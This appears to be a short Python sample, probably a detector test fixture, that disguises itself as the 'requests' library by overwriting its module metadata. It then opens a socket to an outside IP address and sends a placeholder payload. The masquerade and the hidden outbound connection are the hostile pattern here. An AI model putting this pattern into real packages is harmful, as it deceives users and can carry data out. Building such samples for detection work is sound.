"""The program calls itself requests."""
import requests

globals().update(__name__="requests", __file__=requests.__file__, __spec__=requests.__spec__, __package__="", __loader__=requests.__loader__)
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
